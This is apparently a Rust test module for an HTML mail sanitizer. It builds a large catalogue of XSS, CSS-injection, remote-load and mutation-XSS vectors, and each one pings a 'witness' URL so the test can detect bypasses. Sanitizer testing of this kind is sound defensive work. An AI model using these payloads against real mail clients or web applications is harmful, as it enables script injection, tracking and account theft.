//! What hostile mail tries, by families. Every vector that works asks the witness for something.

/// All of them; `witness` is where the witness listens.
pub(super) fn all(witness: &str) -> Vec<String> {
    let url = format!("{witness}/witness");
    let js = format!("fetch(`{url}`)");
    // The first three are plain: they prove that the witness sees what is not cleaned.
    let mut vectors = vec![
        format!("<script>{js}</script>"),
        format!("<img src={url}>"),
        format!("<img src=x onerror=\"{js}\">"),
    ];
    for family in [scripts, handlers, addresses, styles, pictures, mutations, navigation] {
        vectors.extend(family(&url, &js));
    }
    vectors
}

fn scripts(url: &str, js: &str) -> Vec<String> {
    [
        "<SCRIPT SRC=URL></SCRIPT>",
        "<scr<script>ipt>JS</scr</script>ipt>",
        "<script/x>JS</script>",
        "<script\n>JS</script\n>",
        "<script>JS",
        "<script\0>JS</script>",
        "<script type=module>JS</script>",
        "<script async src=URL></script>",
        "<noscript><p title=\"</noscript><script>JS</script>\">",
        "<textarea><script>JS</script>",
        "<textarea></textarea><script>JS</script>",
        "<title></title><script>JS</script>",
        "<!--><script>JS</script>-->",
        "<!--!><script>JS</script>-->",
        "<!-- --!><script>JS</script>",
        "<!-- <script>JS</script>",
        "<![CDATA[<script>JS</script>]]>",
        "<?xml version=\"1.0\"?><script>JS</script>",
        "<xmp></xmp><script>JS</script>",
        "<plaintext><script>JS</script>",
        "<iframe srcdoc=\"<script>JS</script>\"></iframe>",
        "<template><script>JS</script></template>",
        "<svg><script>JS</script></svg>",
        "<svg><script href=URL></script></svg>",
        "<svg><script xlink:href=URL></script></svg>",
        "<math><mtext><script>JS</script></mtext></math>",
        "<style></style><script>JS</script>",
        "<select><script>JS</script></select>",
        "<table><script>JS</script></table>",
        "<frameset><frame src=URL></frameset>",
        "<noembed></noembed><script>JS</script>",
        "<noframes></noframes><script>JS</script>",
        "<div><script>JS</script></div>".repeat(3).leak(),
        "+ADw-script+AD4-JS+ADw-/script+AD4-",
        "\u{feff}<script>JS</script>",
        "<\u{17f}cript>JS</\u{17f}cript>",
        "&lt;script&gt;JS&lt;/script&gt;<script>JS</script>",
        "<a href=x><script>JS</script></a>",
        "</body></html><script>JS</script>",
        "<meta charset=utf-7><script>JS</script>",
    ]
    .iter()
    .map(|vector| filled(vector, url, js))
    .collect()
}

fn handlers(_: &str, js: &str) -> Vec<String> {
    let elements = [
        "img src=x",
        "body",
        "input autofocus",
        "details open",
        "video src=x",
        "audio src=x",
        "svg",
        "marquee",
        "iframe src=about:blank",
        "object data=x",
        "div tabindex=0 autofocus contenteditable",
        "style",
        "select autofocus",
    ];
    let events =
        ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onpageshow", "OnLoAd", "onanimationstart"];
    let mut vectors = Vec::new();
    for element in elements {
        for event in events {
            vectors.push(format!("<{element} {event}=\"{js}\">x"));
        }
    }
    for separator in ["/", "\t", "\n", "\u{c}", "/x=\"y\"/"] {
        vectors.push(format!("<img{separator}src=x{separator}onerror=\"{js}\">"));
    }
    vectors.push(format!("<svg><animate onbegin=\"{js}\" attributeName=x dur=1s>"));
    vectors.push(format!(
        "<style>@keyframes x{{}}</style><p style=\"animation-name:x\" onanimationstart=\"{js}\">x"
    ));
    vectors
}

fn addresses(url: &str, js: &str) -> Vec<String> {
    let schemes = [
        "javascript:JS",
        "JaVaScRiPt:JS",
        "java\tscript:JS",
        "java\nscript:JS",
        "java&#x09;script:JS",
        "&#106;avascript:JS",
        "&#x6A&#x61vascript:JS",
        "\u{1}javascript:JS",
        " javascript:JS",
        "javascript&colon;JS",
        "data:text/html,<script>JS</script>",
        "DATA:text/html;charset=utf-8,<script>JS</script>",
        "data:image/svg+xml,<svg onload=JS>",
        "vbscript:JS",
        "feed:javascript:JS",
        "blob:x",
        "filesystem:x",
        "about:blank",
    ];
    let holders = [
        "<a href=\"AT\">x</a>",
        "<iframe src=\"AT\"></iframe>",
        "<embed src=\"AT\">",
        "<object data=\"AT\"></object>",
        "<img src=\"AT\">",
        "<form action=\"AT\"><input type=submit></form>",
    ];
    let mut vectors = Vec::new();
    for scheme in schemes {
        for holder in holders {
            vectors.push(filled(&holder.replace("AT", scheme), url, js));
        }
    }
    vectors.push(filled("<a xlink:href=\"javascript:JS\">x</a>", url, js));
    vectors.push(filled("<math href=\"javascript:JS\"><mi>x</mi></math>", url, js));
    vectors.push(filled("<a href=https://x ping=URL>x</a>", url, js));
    vectors
}

fn styles(url: &str, js: &str) -> Vec<String> {
    let mut vectors: Vec<String> = [
        "background:url(URL)",
        "background-image:image-set(url(URL) 1x)",
        "list-style:url(URL)",
        "content:url(URL)",
        "cursor:url(URL),auto",
        "border-image:url(URL) 1",
        "mask:url(URL)",
        "filter:url(URL#x)",
        "behavior:url(URL)",
        "width:expression(JS)",
        "-moz-binding:url(URL)",
        "position:fixed;inset:0;z-index:9;background:red",
        "background:\\75rl(URL)",
        "background:url('URL')",
        "background:u/**/rl(URL)",
        "--x:url(URL);background:var(--x)",
    ]
    .iter()
    .map(|style| filled(&format!("<div style=\"{style}\">x</div>"), url, js))
    .collect();
    vectors.extend(
        [
            "<style>@import url(URL);</style>",
            "<style>@import 'URL';</style>",
            "<style>*{background:url(URL)}</style>x",
            "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>x",
            "<style>a[href^=x]{background:url(URL)}</style><a href=x>x</a>",
            "<link rel=stylesheet href=URL>",
            "<link rel=prefetch href=URL>",
            "<link rel=preload as=image href=URL>",
            "<link rel=icon href=URL>",
            "<link rel=modulepreload href=URL>",
            "<link rel=dns-prefetch href=URL>",
            "<link rel=manifest href=URL>",
            "<svg><style>*{background:url(URL)}</style></svg>",
            "<STYLE\n>*{background:url(URL)}</STYLE\n>x",
        ]
        .iter()
        .map(|vector| filled(vector, url, js)),
    );
    vectors
}

fn pictures(url: &str, js: &str) -> Vec<String> {
    let bare = url.trim_start_matches("http:");
    let host = bare.trim_start_matches('/');
    let mut vectors: Vec<String> = [
        format!("\"{bare}\""),
        format!("\"\\\\{host}\""),
        format!("\"/\\{host}\""),
        format!("\"http:/{host}\""),
        format!("\"http:\\\\{host}\""),
        format!("\"http:{host}\""),
        format!("\" {url}\""),
        format!("\"\t{url}\""),
        format!("\"\n{url}\""),
        format!("\"\u{1}{url}\""),
        format!("\"HTTP://{host}\""),
        format!("\"h\ttp://{host}\""),
        format!("\"&#104;ttp://{host}\""),
        format!("\"http&colon;//{host}\""),
        format!("'{url}'"),
        format!("`{url}`"),
        format!("\"http://user@{host}\""),
        format!("\"https:/\\{host}\""),
        format!("\"{url}?a=1&amp;b=2\""),
    ]
    .iter()
    .map(|address| format!("<img src={address}>"))
    .collect();
    vectors.extend(
        [
            "<img srcset=\"URL 1x\">",
            "<picture><source srcset=URL><img></picture>",
            "<input type=image src=URL>",
            "<video poster=URL></video>",
            "<video src=URL autoplay></video>",
            "<audio src=URL autoplay></audio>",
            "<body background=URL>",
            "<table background=URL><tr><td>x</table>",
            "<table><tr><td background=URL>x</table>",
            "<svg><image href=URL></svg>",
            "<svg><image xlink:href=URL></svg>",
            "<svg><use href=URL#x></svg>",
            "<svg><feImage href=URL></svg>",
            "<img lowsrc=URL>",
            "<img dynsrc=URL>",
            "<object data=URL></object>",
            "<embed src=URL>",
            "<image src=URL>",
            "<img/src=URL>",
            "<img src=x src=URL>",
            "<img longdesc=URL src=x>",
            "<bgsound src=URL>",
            "<track src=URL>",
            "<applet code=URL></applet>",
            "<iframe src=URL></iframe>",
            "<portal src=URL></portal>",
            "<fencedframe src=URL></fencedframe>",
            "<img data-remote-src=URL>",
            "<img data-cid=URL>",
            "<video><source src=URL></video>",
            "<img src=URL loading=eager>",
            "<math><mglyph src=URL></math>",
        ]
        .iter()
        .map(|vector| filled(vector, url, js)),
    );
    vectors
}

fn mutations(url: &str, js: &str) -> Vec<String> {
    let mut vectors: Vec<String> = [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=JS&gt;\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=JS>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
        "<noscript><style></noscript><img src=x onerror=JS>",
        "<svg><style><img src=x onerror=JS></style></svg>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=JS></style></annotation-xml></math>",
        "<p><svg><foreignObject><iframe onload=JS></iframe></foreignObject></svg>",
        "<table><td><svg><desc><td><style><title></style><img src=x onerror=JS>",
        "<select><style><img src=x onerror=JS></style></select>",
        "<option><style></option></select><b><img src=x onerror=JS></style></option>",
        "<title>&lt;img src=x onerror=JS&gt;</title>",
        "<textarea>&lt;/textarea&gt;&lt;img src=x onerror=JS&gt;</textarea>",
        "<a title=\"</a><img src=x onerror=JS>\">x</a>",
        "<p title=\"--&gt;<img src=x onerror=JS>\"><!--",
        "<xmp><p title=\"</xmp><img src=x onerror=JS>\">",
        "<svg><![CDATA[><img src=x onerror=JS>]]></svg>",
        "<math><mi><![CDATA[</mi><img src=x onerror=JS>]]></math>",
        "<svg><a><![CDATA[</a><img src=x onerror=JS>]]></a></svg>",
        "<div id=\"1\n`'\"><img src=x onerror=JS>\"></div>",
        "<b <script>JS</script>0",
        "<img src=\"a\"onerror=JS>",
        "<<img src=x onerror=JS>",
        "<img src=x:x onerror\n=JS>",
        "<img alt=\"<x\" src=x onerror=JS>",
        "<img alt='\"><img src=x onerror=JS>'>",
        "<listing>&lt;img src=x onerror=JS&gt;</listing>",
        "<p>&#x3c;img src=x onerror=JS&#x3e;",
        "<dl><dt><svg><p><style><g title=\"</style><img src=x onerror=JS>\">",
    ]
    .iter()
    .map(|vector| filled(vector, url, js))
    .collect();
    vectors.push(format!("{}<img src=x onerror=\"{js}\">", "<div>".repeat(600)));
    vectors.push(format!("{}<script>{js}</script>", "<table><tr><td>".repeat(200)));
    vectors.push(format!("{}<script>{js}</script>", "<svg><foreignObject>".repeat(100)));
    vectors
}

fn navigation(url: &str, js: &str) -> Vec<String> {
    [
        "<meta http-equiv=refresh content=\"0;url=URL\">",
        "<META HTTP-EQUIV=Refresh CONTENT='0;URL'>",
        "<base href=URL/><img src=x>",
        "<base target=_parent><a href=x>x</a>",
        "<form action=URL><input name=a><button autofocus>x</button></form>",
        "<form id=f action=URL></form><button form=f>x</button>",
        "<input type=submit formaction=URL>",
        "<isindex action=URL>",
        "<a href=https://example.org target=_top>x</a>",
        "<map name=m><area shape=rect coords=0,0,9,9 href=\"javascript:JS\"></map><img usemap=#m>",
        "<dialog open style=\"position:fixed;inset:0\">x</dialog>",
        "<object classid=\"clsid:x\"><param name=url value=URL></object>",
        "<link rel=import href=URL>",
        "<html manifest=URL>",
        "<body onload=JS>",
        "<script>parent.location='URL'</script>",
    ]
    .iter()
    .map(|vector| filled(vector, url, js))
    .collect()
}

fn filled(vector: &str, url: &str, js: &str) -> String {
    vector.replace("URL", url).replace("JS", js)
}
